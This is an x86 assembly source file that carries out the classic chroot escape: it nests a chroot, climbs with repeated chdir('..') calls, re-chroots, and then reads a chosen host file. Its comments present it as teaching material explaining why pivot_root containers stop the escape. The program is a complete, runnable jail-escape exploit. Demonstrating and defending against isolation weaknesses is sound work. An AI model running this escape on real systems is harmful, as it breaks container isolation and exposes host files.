# jailbreak.s - the classic chroot(2) escape, and why a pivot_root container stops it.
#
# Teaches: chroot(2) changes only the calling process's root directory, not its current
#   directory, and ".." stops only at the root directory. A process that may call chroot
#   (CAP_SYS_CHROOT, which Docker's default capability set keeps) makes a subdirectory, chroots
#   into it while its current directory stays *outside* the new root, climbs with chdir("..")
#   (never passing its root, so nothing stops it) up to the real root, and chroots there.
#   Under `vsim container run --isolation chroot` that is the host's root: the jail is open.
#   Under the default container (a mount namespace, pivot_root, the old root detached) the
#   climb ends at the container's own root, because nothing else is left in its mount
#   namespace to climb to.
# Usage: jailbreak PATH      PATH: a file to read after the escape (a host file, say)
# Prints: "jailbreak: chroot(.jailbreak), 64 x chdir(..), chroot(.): done", then PATH's
#   contents; "error E in STEP" (E = errno) when a step or the open of PATH fails.
# Exit status: 0 when PATH was read after the climb; 1 when a step or the open failed;
#   2 without PATH.
# Build: as --32 jailbreak.s -o jailbreak.o && ld -m elf_i386 jailbreak.o -o jailbreak

        .equ SYS_EXIT, 1
        .equ SYS_READ, 3
        .equ SYS_WRITE, 4
        .equ SYS_OPEN, 5
        .equ SYS_CHDIR, 12
        .equ SYS_MKDIR, 39
        .equ SYS_CHROOT, 61
        .equ SYS_UNLINKAT, 301
        .equ O_DIRECTORY, 0x10000
        .equ AT_REMOVEDIR, 0x200
        .equ EEXIST, 17
        .equ CLIMBS, 64

        .text
        .globl _start
_start:
        cmpl $2, (%esp)                 # argc
        jb usage
        movl 8(%esp), %eax              # argv[1]: the file to read afterwards
        movl %eax, target

        movl $SYS_CHDIR, %eax           # start from the jail's root
        movl $s_root, %ebx
        int $0x80
        movl $SYS_OPEN, %eax            # keep the jail's root open, to remove the subdirectory later
        movl $s_root, %ebx
        movl $O_DIRECTORY, %ecx
        xorl %edx, %edx
        int $0x80
        movl %eax, jailfd

        movl $SYS_MKDIR, %eax           # 1. a subdirectory of the jail
        movl $s_sub, %ebx
        movl $0755, %ecx
        int $0x80
        cmpl $-EEXIST, %eax
        je 1f
        movl $s_mkdir, %esi
        testl %eax, %eax
        js fail
1:      movl $SYS_CHROOT, %eax          # 2. root := the subdirectory; the current directory stays above it
        movl $s_sub, %ebx
        int $0x80
        movl $s_chroot_sub, %esi
        testl %eax, %eax
        js fail
        movl $CLIMBS, %edi              # 3. climb: ".." is stopped only at the root, which is below us
2:      movl $SYS_CHDIR, %eax
        movl $s_dotdot, %ebx
        int $0x80
        movl $s_chdir, %esi
        testl %eax, %eax
        js fail
        decl %edi
        jnz 2b
        movl $SYS_CHROOT, %eax          # 4. root := wherever the climb ended
        movl $s_dot, %ebx
        int $0x80
        movl $s_chroot_dot, %esi
        testl %eax, %eax
        js fail
        movl jailfd, %ebx               # tidy up: the subdirectory, through the jail's root
        testl %ebx, %ebx
        js 3f
        movl $SYS_UNLINKAT, %eax
        movl $s_sub, %ecx
        movl $AT_REMOVEDIR, %edx
        int $0x80
3:      movl $s_done, %ecx
        call print

        movl $SYS_OPEN, %eax            # 5. read PATH as the new root resolves it
        movl target, %ebx
        xorl %ecx, %ecx
        xorl %edx, %edx
        int $0x80
        movl $s_open, %esi
        testl %eax, %eax
        js fail
        movl %eax, %ebx
4:      movl $SYS_READ, %eax
        movl $buffer, %ecx
        movl $4096, %edx
        int $0x80
        movl $s_read, %esi
        testl %eax, %eax
        js fail
        jz 5f
        pushl %ebx
        movl %eax, %edx
        movl $SYS_WRITE, %eax
        movl $1, %ebx
        movl $buffer, %ecx
        int $0x80
        popl %ebx
        jmp 4b
5:      movl $SYS_EXIT, %eax
        xorl %ebx, %ebx
        int $0x80

# "error E in STEP\n" with E = -EAX, STEP the string at ESI; exit 1.
fail:   negl %eax
        movl $numend, %edi              # decimal digits, backwards
        movl $10, %ecx
6:      xorl %edx, %edx
        divl %ecx
        addb $'0', %dl
        decl %edi
        movb %dl, (%edi)
        testl %eax, %eax
        jnz 6b
        pushl %edi
        movl $s_error, %ecx
        call print
        popl %ecx
        call print
        movl $s_in, %ecx
        call print
        movl %esi, %ecx
        call print
        movl $s_newline, %ecx
        call print
        movl $SYS_EXIT, %eax
        movl $1, %ebx
        int $0x80

usage:  movl $s_usage, %ecx
        call print
        movl $SYS_EXIT, %eax
        movl $2, %ebx
        int $0x80

# Writes the NUL-terminated string at ECX to stdout (EAX, EBX, EDX clobbered).
print:  movl %ecx, %edx
7:      cmpb $0, (%edx)
        je 8f
        incl %edx
        jmp 7b
8:      subl %ecx, %edx
        movl $SYS_WRITE, %eax
        movl $1, %ebx
        int $0x80
        ret

        .data
s_root:       .asciz "/"
s_sub:        .asciz ".jailbreak"
s_dotdot:     .asciz ".."
s_dot:        .asciz "."
s_mkdir:      .asciz "mkdir(.jailbreak)"
s_chroot_sub: .asciz "chroot(.jailbreak)"
s_chdir:      .asciz "chdir(..)"
s_chroot_dot: .asciz "chroot(.)"
s_open:       .asciz "open"
s_read:       .asciz "read"
s_done:       .asciz "jailbreak: chroot(.jailbreak), 64 x chdir(..), chroot(.): done\n"
s_error:      .asciz "error "
s_in:         .asciz " in "
s_newline:    .asciz "\n"
s_usage:      .asciz "usage: jailbreak PATH\n"
digits:       .space 12
numend:       .byte 0

        .bss
        .lcomm target, 4
        .lcomm jailfd, 4
        .lcomm buffer, 4096
